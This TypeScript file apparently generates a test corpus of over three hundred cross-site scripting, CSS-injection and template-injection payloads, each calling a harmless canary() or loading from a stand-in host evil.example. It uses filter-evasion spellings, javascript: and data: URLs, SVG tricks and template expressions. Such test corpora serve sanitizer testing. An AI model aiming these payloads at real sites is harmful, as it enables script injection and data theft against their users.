/**
 * Texts that try to become code or style, made from our own templates. Each calls `canary()`, sets
 * `--canary`, or asks a host that is not ours, if a page lets it. A list's name keeps 100 characters, so
 * none is longer.
 */
const call = "canary()";
const host = "//evil.example/x";
const maxLength = 100;

type Maker = () => readonly string[];

/** Every combination of what the functions' arguments may be. */
function pairs<A, B>(as: readonly A[], bs: readonly B[], make: (a: A, b: B) => string): string[] {
  return as.flatMap((a) => bs.map((b) => make(a, b)));
}

/** Elements that run something by themselves, each with the attributes that make it do so. */
const handlers = [
  `img src=x onerror=${call}`,
  `image src=x onerror=${call}`,
  `svg onload=${call}`,
  `body onload=${call}`,
  `body onpageshow=${call}`,
  `iframe onload=${call}`,
  `video src=x onerror=${call}`,
  `video><source onerror=${call}`,
  `audio src=x onerror=${call}`,
  `details open ontoggle=${call}`,
  `input autofocus onfocus=${call}`,
  `textarea autofocus onfocus=${call}`,
  `select autofocus onfocus=${call}`,
  `button autofocus onfocus=${call}`,
  `div tabindex=1 autofocus onfocus=${call}`,
  `object data=x onerror=${call}`,
  `embed src=x onload=${call}`,
  `link rel=stylesheet href=x onerror=${call}`,
  `script src=x onerror=${call}`,
  `style onload=${call}`,
  `marquee onstart=${call}`,
  `div style=animation:spin onanimationstart=${call}`,
  `x contenteditable autofocus onfocus=${call}`,
] as const;

/** Ways out of what may stand around a name: an attribute, an element whose content is text, a comment, a section. */
const breakouts = [
  `">`,
  `'>`,
  "`>",
  `"/>`,
  `-->`,
  `]]>`,
  `</title>`,
  `</textarea>`,
  `</style>`,
  `</script>`,
  `</noscript>`,
  `</template>`,
  `</select>`,
  `</svg>`,
] as const;

const runners = [`<script>${call}</script>`, `<img src=x onerror=${call}>`, `<svg/onload=${call}>`];

/** Out of an attribute into another one. */
const attributes = [`onerror=${call}`, `onload=${call}`, `autofocus onfocus=${call}`, `style=x`];

/** The same element in spellings that careless filters let pass. */
const spellings: readonly ((text: string) => string)[] = [
  (text) => text.toUpperCase().replaceAll("CANARY", "canary"),
  (text) => text.replace("<", "<\u0000"),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll(" ", "\t"),
  (text) => text.replaceAll(" ", "\n"),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&#60;").replaceAll(">", "&#62;"),
  (text) => text.replaceAll("<", "&#x3c;").replaceAll(">", "&#x3E;"),
  (text) => text.replaceAll("<", "&#0000060").replaceAll(">", "&#0000062"),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (text) => text.replaceAll("<", "\\x3c").replaceAll(">", "\\x3e"),
  (text) => encodeURIComponent(text).replaceAll("(", "%28"),
  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
  (text) => text.replaceAll("<", "‹").replaceAll(">", "›"),
  (text) => text.replace("<", "<<"),
  (text) => text.replace(">", ""),
  (text) => text.replace("script", "scr<script>ipt"),
  (text) => text.replace("canary()", "canary``"),
  (text) => text.replace("canary()", "&#99;anary()"),
  (text) => text.replace("canary()", "\\u0063anary()"),
];

const invisible = [
  "\u202E",
  "\u2066",
  "\u200B",
  "\uFEFF",
  "\u00AD",
  "\u2028",
  "\u0008",
  "\u0301".repeat(5),
];

const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  ` javascript:${call}`,
  `\u0001javascript:${call}`,
  `javascript&colon;${call}`,
  `javascript://%0a${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:image/svg+xml,<svg onload=${call}>`,
  `vbscript:${call}`,
  host,
  `https:${host}`,
  `\\\\evil.example\\x`,
] as const;

const readers: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<iframe src="${address}">`,
  (address) => `<object data="${address}">`,
  (address) => `<form action="${address}"><input autofocus>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<svg><a href="${address}"><text>x`,
  (address) => `[x](${address})`,
  (address) => `![x](${address})`,
];

const styles = [
  `<style>html{--canary:1}</style>`,
  `</style><style>html{--canary:1}</style>`,
  `}html{--canary:1}`,
  `;}html{--canary:1}/*`,
  `*/html{--canary:1}`,
  `<style>@import '${host}'</style>`,
  `<style>*{background:url(${host})}</style>`,
  `<style>@font-face{font-family:x;src:url(${host})}*{font-family:x}`,
  `<link rel=stylesheet href=${host}>`,
  `<link rel=preload as=image href=${host}>`,
  `<link rel=prefetch href=${host}>`,
  `<div style="background:url(${host})">`,
  `<div style="background:image-set('${host}' 1x)">`,
  `" style="background:url(${host})`,
  `' style='background:url(${host})`,
  `;background:url(${host});`,
  `red;background-image:url(${host})`,
  `url(${host})`,
  `url("javascript:${call}")`,
  `expression(${call})`,
  `-moz-binding:url(${host})`,
  `behavior:url(${host})`,
  `<svg><style>@import '${host}'</style></svg>`,
  `<img srcset="${host} 1x">`,
  `<picture><source srcset=${host}><img>`,
  `<table background=${host}>`,
  `<input type=image src=${host}>`,
  `<video poster=${host}>`,
] as const;

const drawings = [
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:,${call}"/></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set onbegin=${call} attributeName=x>`,
  `<svg><image href=x onerror=${call}>`,
  `<svg><image href=${host}>`,
  `<svg><use href=${host}#x>`,
  `<svg><foreignObject><img src=x onerror=${call}>`,
  `<svg><a><animate attributeName=href values="javascript:${call}">`,
  `</text><script>${call}</script>`,
  `</svg><img src=x onerror=${call}>`,
  `"/><script>${call}</script>`,
  `<!DOCTYPE x [<!ENTITY y "${call}">]>&y;`,
  `<?xml-stylesheet href="${host}"?>`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<math><mi xlink:href="javascript:${call}">x`,
  `<math><style><img src=x onerror=${call}></style>`,
] as const;

const templates = [
  `{{constructor.constructor('${call}')()}}`,
  `{{${call}}}`,
  `{{{${call}}}}`,
  `\${${call}}`,
  `\`\${${call}}\``,
  `<%= ${call} %>`,
  `<%- ${call} %>`,
  `#{${call}}`,
  `[[\${${call}}]]`,
  `{%${call}%}`,
  `@{${call}}`,
  `{${call}}`,
  `{name, select, other {<b>${call}</b>}}`,
  `<b>{name}</b>`,
  `'+${call}+'`,
  `";${call};//`,
  `';${call};//`,
  `\\";${call};//`,
  `\u2028${call}\u2029`,
  `</script><script>${call}//`,
  `<!--<script>${call}</script>`,
  `<template><script>${call}</script></template>`,
  `<div data-x="{{${call}}}" ng-app>{{${call}}}</div>`,
  `<base href=${host}>`,
  `$&$1$\`$'${call}`,
  `__proto__`,
  `constructor`,
  `%s%n%x`,
  `*{}*[x]:${call}`,
] as const;

const makers: Readonly<Record<string, Maker>> = {
  handlers: () => handlers.map((handler) => `<${handler}>`),
  breakouts: () => pairs(breakouts, runners, (out, run) => out + run),
  attributes: () =>
    pairs([`"`, `'`, "`", ""], attributes, (quote, text) => `x${quote} ${text} y=${quote}`),
  spellings: () => pairs(spellings, runners, (spell, run) => spell(run)),
  invisible: () => pairs(invisible, runners, (char, run) => run.replace("<", `<${char}`)),
  addresses: () => pairs(readers, addresses, (read, address) => read(address)),
  styles: () => styles,
  drawings: () => drawings,
  templates: () => templates,
};

/** More than three hundred, each once. */
export const payloads: readonly string[] = [
  ...new Set(Object.values(makers).flatMap((make) => make())),
].filter((payload) => Array.from(payload).length <= maxLength);

/** The payloads in groups of at most so many. */
export function groupsOf(size: number): readonly (readonly string[])[] {
  return Array.from({ length: Math.ceil(payloads.length / size) }, (_, group) =>
    payloads.slice(group * size, (group + 1) * size),
  );
}
